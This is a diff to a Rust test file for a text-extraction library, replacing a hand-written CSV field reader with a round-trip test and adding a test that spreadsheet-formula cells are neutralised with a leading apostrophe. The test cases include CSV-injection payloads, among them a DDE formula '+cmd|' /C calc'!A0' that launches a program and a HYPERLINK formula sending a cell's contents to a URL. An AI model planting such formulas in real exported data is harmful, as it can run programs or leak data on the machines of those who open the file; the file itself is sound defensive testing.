@@ -1,5 +1,6 @@
 //! What the formats write: Markdown that a parser reads back to the same structure, HTML in which nothing can act.
 
+use std::collections::HashMap;
 use std::sync::LazyLock;
 
 use cleancopy::label::{Labeller, Passes};
@@ -215,35 +216,77 @@ fn html_and_xml_nest_as_the_page_does() {
     assert!(xml.contains(list), "{xml}");
 }
 
-#[test]
-fn rows_of_csv_are_quoted() {
-    let article = clean("<p>She said \"no\", twice.</p>");
-    let record = json::Record::new("a,b", None, &article, &RenderOptions::default(), json::Extras::default());
-    let row = csv::row(&record);
-    assert!(row.starts_with("\"a,b\",") && row.contains("\"\"no\"\"") && row.ends_with("\r\n"), "{row}");
-    let (head, fields) = (fields_of(&csv::head()), fields_of(&row));
-    let of = |name: &str| {
-        let at = head.iter().position(|own| own == name).unwrap_or_else(|| panic!("no column {name}"));
-        fields[at].as_str()
-    };
-    assert_eq!(head.len(), fields.len());
-    assert_eq!((of("id"), of("title"), of("text")), ("a,b", "Bridge", record.text.as_str()));
+/// The cells of one article by the names of their columns, as a CSV parser reads them back.
+fn csv_cells(record: &json::Record<'_>) -> HashMap<String, String> {
+    let table = csv::head() + &csv::row(record);
+    let rows = ::csv::Reader::from_reader(table.as_bytes()).into_deserialize().collect::<Result<Vec<_>, _>>();
+    let mut rows: Vec<HashMap<String, String>> = rows.unwrap_or_else(|error| panic!("{error}: {table}"));
+    assert_eq!(rows.len(), 1, "{table}");
+    rows.remove(0)
 }
 
-/// The fields of one row, as RFC 4180 reads them.
-fn fields_of(row: &str) -> Vec<String> {
-    let (mut fields, mut quoted) = (vec![String::new()], false);
-    let mut chars = row.strip_suffix("\r\n").expect("a row ends").chars().peekable();
-    while let Some(char) = chars.next() {
-        let field = fields.last_mut().expect("there is always one");
-        match char {
-            '"' if quoted && chars.next_if_eq(&'"').is_some() => field.push('"'),
-            '"' => quoted = !quoted,
-            ',' if !quoted => fields.push(String::new()),
-            char => field.push(char),
+#[test]
+fn csv_is_read_back() {
+    let article = clean("<p>She said \"no\", twice.</p>");
+    let url = Some("https://example.org/a/b");
+    let record = json::Record::new("a,b", url, &article, &RenderOptions::default(), json::Extras::default());
+    let authors = ["Ann Lee".to_owned(), "Bo Li".to_owned()];
+    let record =
+        json::Record { authors: &authors, date: Some("2024-05-03"), sitename: Some("The Example"), ..record };
+    let expected = [
+        ("id", "a,b"),
+        ("url", "https://example.org/a/b"),
+        ("hostname", "example.org"),
+        ("sitename", "The Example"),
+        ("title", "Bridge"),
+        ("authors", "Ann Lee; Bo Li"),
+        ("date", "2024-05-03"),
+        ("language", "en"),
+        ("pagetype", article.pagetype.name()),
+        ("is_article", if article.is_article { "true" } else { "false" }),
+        ("confidence", &article.confidence.to_string()),
+        ("text", &article.text()),
+    ];
+    assert!(record.text.contains("\"no\", twice.\n\n"), "{}", record.text);
+    let cells = csv_cells(&record);
+    for (name, value) in expected {
+        assert_eq!(cells[name], value, "{name}");
+    }
+    assert_eq!(cells.len(), expected.len());
+    assert!(csv::head().ends_with("\r\n") && csv::row(&record).ends_with("\r\n"));
+}
+
+/// A spreadsheet runs what such a cell says; with an apostrophe before it, it is text.
+#[test]
+fn cells_of_csv_are_no_formulas() {
+    let article = clean("<p>Nothing else.</p>");
+    let cases = [
+        ("a formula", "=HYPERLINK(\"https://example.org/\"&A1,\"more\")", true),
+        ("a formula that runs a program", "+cmd|' /C calc'!A0", true),
+        ("an item of a list", "- one\n\n- two", true),
+        ("an account", "@example", true),
+        ("a tab", "\t=1+1", true),
+        ("a carriage return", "\r=1+1", true),
+        ("a line feed", "\n=1+1", true),
+        ("a wide equals sign", "＝1+1", true),
+        ("a text that was marked before", "'=1+1", true),
+        ("signs inside a text", "a=b+c-d@e", false),
+        ("a dash of dialogue", "– Who goes there?", false),
+        ("an apostrophe that belongs to the text", "'Tis the season", false),
+        ("a negative number in a text", "The index fell by -3 points", false),
+        ("nothing", "", false),
+    ];
+    for (name, text, marked) in cases {
+        let record =
+            json::Record::new(text, None, &article, &RenderOptions::default(), json::Extras::default());
+        let record = json::Record { text: text.to_owned(), title: Some(text), ..record };
+        let cells = csv_cells(&record);
+        for column in ["id", "title", "text"] {
+            let cell = &cells[column];
+            assert_eq!(cell.strip_prefix('\'').filter(|_| marked).unwrap_or(cell), text, "{name}: {column}");
+            assert_eq!(cell.len() - text.len(), usize::from(marked), "{name}: {column}: {cell}");
         }
     }
-    fields
 }
 
 #[test]
